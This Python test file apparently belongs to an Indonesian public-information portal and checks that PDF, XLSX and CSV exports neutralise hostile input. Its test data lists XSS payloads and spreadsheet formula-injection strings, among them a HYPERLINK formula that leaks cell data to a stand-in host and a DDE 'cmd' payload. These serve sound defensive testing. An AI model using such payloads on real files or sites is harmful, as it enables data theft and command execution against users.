"""Hostile text that reaches a PDF, an XLSX sheet or a CSV file comes out inert: the literal
characters, never markup, a script, a link or a formula."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from pypdf import PdfReader

from ppid_portal.documents import build_csv, build_xlsx, csv_response, render_pdf
from ppid_portal.files import UploadValidator

XSS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">klik</a>',
    "<pdf:nextpage/><pdf:barcode value='x'/>",
]
FORMULAS = [
    '=HYPERLINK("http://jahat.contoh/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456 7890",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def pdf_template(tmp_path, settings):
    (tmp_path / "pdf_xss.html").write_text(
        '{% extends "pdf/base.html" %}{% block content %}<h1>{{ judul }}</h1>'
        "{% for baris in isi %}<p>{{ baris }}</p>{% endfor %}{% endblock %}"
    )
    settings.TEMPLATES = [
        {**settings.TEMPLATES[0], "DIRS": [*settings.TEMPLATES[0]["DIRS"], tmp_path]}
    ]
    return "pdf_xss.html"


def test_pdf_prints_hostile_text_literally_and_stays_inert(pdf_template):
    data = render_pdf(pdf_template, {"judul": XSS[0], "isi": XSS[1:] + FORMULAS[:2]})
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    flat = " ".join(text.split())
    for payload in [XSS[0], "<img src=x onerror=alert(1)>", 'href="javascript:alert(1)"']:
        assert payload in flat
    assert "<pdf:nextpage/>" in flat  # xhtml2pdf's own tags are printed, not obeyed
    assert len(PdfReader(io.BytesIO(data)).pages) == 1
    assert b"/URI" not in data and b"/JavaScript" not in data and b"/Annots" not in data
    # The portal's own upload check finds nothing active in the result.
    UploadValidator(kinds=("pdf",))(SimpleUploadedFile("hasil.pdf", data))


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None], sheet


def test_xlsx_cells_are_strings_never_formulas_or_links():
    rows = [[i, payload] for i, payload in enumerate(XSS + FORMULAS, start=1)]
    content = build_xlsx([("Register", ["No", "=Isi"], rows)], title_lines=["@Judul"])
    found, sheet = cells(content)
    assert all(cell.data_type in ("s", "n") for cell in found)
    assert not sheet._hyperlinks
    values = [cell.value for cell in found]
    for payload in XSS:
        assert payload in values
    texts = [v for v in values if isinstance(v, str)]
    for payload in FORMULAS:
        # Kept whole behind the apostrophe (XML turns a carriage return into a line feed).
        assert any(v.startswith("'") and v[1:].strip() == payload.strip() for v in texts), payload
    assert "'=Isi" in values and "'@Judul" in values
    assert b"<f>" not in content  # no formula element anywhere in the workbook's XML


def test_csv_escapes_formulas_and_reads_back_in_excel_encoding():
    when = datetime(2026, 3, 2, 1, 30, tzinfo=ZoneInfo("UTC"))
    rows = [
        [1, "Siti Nurhaliza – Kecamatan Cempaka", when, date(2026, 3, 2), True, None],
        [2, 'baris satu\nbaris dua, dengan koma dan "kutip"', None, None, False, 3.5],
        *[[i, payload, None, None, None, None] for i, payload in enumerate(FORMULAS, start=3)],
        *[[i, payload, None, None, None, None] for i, payload in enumerate(XSS, start=20)],
    ]
    text = build_csv(["No", "Nama", "Waktu", "Tanggal", "Lengkap", "Nilai"], rows)
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert parsed[0] == ["No", "Nama", "Waktu", "Tanggal", "Lengkap", "Nilai"]
    assert parsed[1] == [
        "1",
        "Siti Nurhaliza – Kecamatan Cempaka",
        "2026-03-02 08:30",  # Asia/Jakarta
        "2026-03-02",
        "Ya",
        "",
    ]
    assert parsed[2][1] == 'baris satu\nbaris dua, dengan koma dan "kutip"'
    assert parsed[2][4:] == ["Tidak", "3.5"]
    for line in parsed[3 : 3 + len(FORMULAS)]:
        assert line[1].startswith("'"), line
    assert [line[1] for line in parsed[-len(XSS) :]] == XSS
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in parsed for cell in r)


def test_csv_response_is_a_utf8_attachment():
    response = csv_response("Daftar Informasi Publik 2026", ["Judul"], [["Anggaran – APBD"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="daftar-informasi-publik-2026.csv"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.decode("utf-8-sig") == "Judul\r\nAnggaran – APBD\r\n"
